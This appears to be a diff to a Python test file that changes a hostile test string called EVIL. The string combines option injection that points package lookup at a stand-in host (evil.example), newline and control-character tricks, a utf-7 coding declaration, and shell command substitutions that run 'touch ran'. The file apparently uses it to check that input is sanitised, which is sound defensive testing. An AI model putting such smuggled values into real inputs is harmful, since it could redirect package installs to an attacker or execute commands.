@@ -499,7 +499,7 @@ def test_the_machine():
 
 
 EVIL = (
-    "\n--index-url https://evil.example\r\x0b\u2028-e . # \x1b[2Jcoding: utf-7 +AAo--pre"
+    "\n--no-index --find-links https://evil.example\r\x0b\u2028-e . # \x1b[2Jcoding: utf-7 +AAo--pre"
     " '$(touch ran)'`touch ran`;touch ran\n"
 )
 
